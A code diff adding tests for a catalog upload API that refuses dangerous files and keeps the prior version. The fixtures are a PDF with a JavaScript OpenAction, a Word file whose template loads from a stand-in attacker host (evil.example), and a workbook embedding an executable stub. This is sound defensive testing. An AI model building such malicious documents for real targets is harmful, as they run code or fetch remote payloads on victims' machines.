@@ -8,8 +8,10 @@ import { panelContent } from '../../../src/generated/panel.ts';
 import { referenceTo } from '../../../src/server/domain/catalog/asset-reference.ts';
 import { loadContents, removeUnusedAssets, storeAsset } from '../../../src/server/domain/catalog/asset-store.ts';
 import { ANY_DATABASE_KIND } from '../../support/database.ts';
+import { officeFile, relation } from '../../support/office-files.ts';
 import { ROOT } from '../../support/root.ts';
 import { type Api, startApi } from '../support/api.ts';
+import { makePdf } from '../support/pdf/make-pdf.ts';
 import { administrator, get, inDatabase, type Member, staffMember } from '../support/staff-life.ts';
 
 const CATALOG = 'downloads.yaml';
@@ -20,6 +22,27 @@ const PUBLISHED = readFileSync(join(ROOT, 'catalog', GUIDE));
 function pdf(name: string): Buffer {
   return Buffer.concat([PUBLISHED, Buffer.from(`% ${name}\n%%EOF\n`)]);
 }
+
+const DANGEROUS: readonly (readonly [string, path: string, () => Buffer | Promise<Buffer>, words: string])[] = [
+  [
+    'JavaScript in a PDF',
+    GUIDE,
+    () => makePdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }),
+    'contiene un programa',
+  ],
+  [
+    'a document with a template from elsewhere',
+    'files/nyk-poder-liberacion-bl.docx',
+    () => officeFile('docx', { relations: relation('attachedTemplate', 'https://evil.example/a.dotm', true) }),
+    'carga una parte desde otro lugar',
+  ],
+  [
+    'a workbook with a program',
+    'files/nyk-autorizacion-funcionarios.xlsx',
+    () => officeFile('xlsx', { parts: { 'xl/payload.exe': 'MZ' } }),
+    'contiene otro archivo',
+  ],
+];
 
 describe.each(ANY_DATABASE_KIND)('replacing files in catalog drafts (%s, S-110)', (kind) => {
   let api: Api;
@@ -142,6 +165,21 @@ describe.each(ANY_DATABASE_KIND)('replacing files in catalog drafts (%s, S-110)'
     expect(problems.map(({ message }) => message).join()).toContain(words);
     expect(await drafts()).toBe(before);
   });
+
+  it.each(DANGEROUS)(
+    'refuses a dangerous file and keeps the former one: %s (S-119)',
+    async (_what, path, bytes, words) => {
+      const { draft } = await replaced(pdf('former'));
+      const published = referenceTo(readFileSync(join(ROOT, 'catalog', path)));
+      const { status, body } = await send(path, await bytes(), String(draft), path === GUIDE ? undefined : published);
+      expect(status).toBe(200);
+      const { problems } = body as unknown as CatalogReplacement;
+      expect(problems.map(({ message }) => message)).toEqual([expect.stringContaining(words)]);
+      expect(problems[0]?.message).toContain(`${path} puede ser peligroso`);
+      expect((await draftOf(draft)).files).toEqual([GUIDE]);
+      expect((await assetOf(draft))?.version).toBe(referenceTo(pdf('former')));
+    },
+  );
 
   it('refuses a file larger than the catalog allows with 413', async () => {
     expect((await send(GUIDE, Buffer.alloc((panelContent?.maxFileBytes ?? 0) + 1))).status).toBe(413);
